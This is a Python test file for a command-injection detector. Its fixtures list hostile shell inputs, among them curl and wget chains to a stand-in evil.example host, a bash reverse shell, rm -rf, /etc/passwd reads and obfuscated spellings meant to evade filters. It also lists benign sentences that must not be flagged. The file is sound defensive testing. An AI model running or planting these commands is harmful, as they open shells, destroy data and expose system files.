"""Command injection in an argument: attacks of each nature are found, sentences are not."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from processors.content import commands
from processors.content.commands import find

SIGNS = st.text(alphabet="$(){}`;|&<>\\'\"^%+ \n\r/*?[]!-abilsx0\x00\u0301\ud800ж", max_size=300)


def kinds(text: str) -> set[str]:
    return {hit.kind for hit in find(text)}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("report.pdf; curl http://evil.example/x", "command.chain"),
        ("a && wget evil.example", "command.chain"),
        ("x | bash", "command.chain"),
        ("x|id", "command.chain"),
        ("name\nrm -rf /srv", "command.chain"),
        ("$(whoami)", "command.substitution"),
        ("`uname -a`", "command.substitution"),
        ("cat$IFS/etc/passwd", "command.evasion"),
        ("/???/c?t /e??/pa??wd", "command.evasion"),
        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "command.reverse_shell"),
        ("() { :;}; /usr/bin/true", "command.reverse_shell"),
        ("../../etc/passwd", "command.path"),
        ("x > /tmp/out", "command.path"),
        ("powershell -enc AAAA", "command.windows"),
        ("for %i in (*) do del %i", "command.windows"),
        ("cmd /c dir", "command.windows"),
        ("os.system('id')", "command.code"),
        ("whoami", "command.bare"),
        ("rm -rf /", "command.bare"),
    ],
)
def test_an_attack_is_found(text: str, kind: str) -> None:
    """One of each nature."""
    assert kind in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "a%3Bcurl%20evil.example",
        "a%253Bcurl%2520evil.example",
        "x; c\\url evil.example",
        "x; c''url evil.example",
        'x; "cu"rl evil.example',
        "x; cu$@rl evil.example",
        "x; cu${z}rl evil.example",
        "x;${IFS}curl${IFS}evil.example",
        "x&#59;curl evil.example",
        "x\\u003bcurl evil.example",
        "x；ｃｕｒｌ evil.example",  # noqa: RUF001 - full width is the disguise
        "x; cu\u200brl evil.example",
    ],
)
def test_a_disguise_hides_no_program(text: str) -> None:
    """Escapes, quotes, empty variables and other spellings."""
    assert kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "New York, NY",
        "Research & Development",
        "Times & Schedule; more inside",
        "Cut the cloth; sort the pieces",
        "AT&T",
        "O'Neill's \"best\" pub",
        "2023-10-01T00:00:00Z",
        "jane.doe@example.com",
        "https://example.com/search?q=a&page=2",
        "x**2 + 3*x - 1",
        "SELECT name FROM users WHERE age > 30",
        "if it rains, take the bus",
        "The price is $5 (or less)",
        "C:\\Users\\Jane\\report.docx",
        "<b>bold</b> text",
        "Prices | Help",
        "Dear Sir,\n\nfind attached the file.\n\nDate: today\nBest",
    ],
)
def test_a_sentence_is_not_a_command(text: str) -> None:
    """Words, addresses, formulas and letters that people send."""
    assert find(text) == ()


def test_one_word_that_becomes_two_commands_is_found_by_the_grammar() -> None:
    """No pattern knows this form: the program stands behind an assignment."""
    assert kinds("a; A=1 netstat") == {"command.structure"}
    assert kinds("a; A=1 sausages") == set()


def test_a_text_that_is_too_long_is_unread_from_there() -> None:
    """The rest is a hit of its own."""
    assert find("a" * commands.READ_MAX) == ()
    assert kinds("a" * (commands.READ_MAX + 1)) == {"command.unread"}


def test_a_hit_has_a_place_in_the_text_itself() -> None:
    """Code points, also behind characters of several bytes."""
    text = "жжж; curl x"
    hit = next(one for one in find(text) if one.rule == "chain-clear")

    assert text[hit.start : hit.end].startswith("; curl")


@given(SIGNS)
def test_any_text_is_read(text: str) -> None:
    """Never raises; places lie in the text; the same answer twice."""
    found = find(text)

    assert found == find(text)
    assert all(0 <= hit.start <= hit.end <= len(text) for hit in found)
    assert len({hit.rule for hit in found}) == len(found)


@given(st.text(alphabet="abcdefghij ,.", max_size=60))
def test_a_harmless_beginning_hides_nothing(text: str) -> None:
    """An attack is an attack behind any words."""
    assert "command.chain" in kinds(f"{text}; curl http://evil.example/")


@pytest.mark.parametrize("sign", ["`", "$(", "a", "'", "\\", "${", "%25", "\n", "\x00", "\ud800", "(", "a|", "\u0301"])
def test_four_kilobytes_of_a_sign_are_read(sign: str) -> None:
    """Whatever they mean, they do not raise."""
    find(sign * (4096 // len(sign)))


def test_the_statement_is_json_and_names_the_grammar() -> None:
    """The digest of the catalogue is made of it."""
    assert "tree-sitter-bash" in json.dumps(commands.statement())
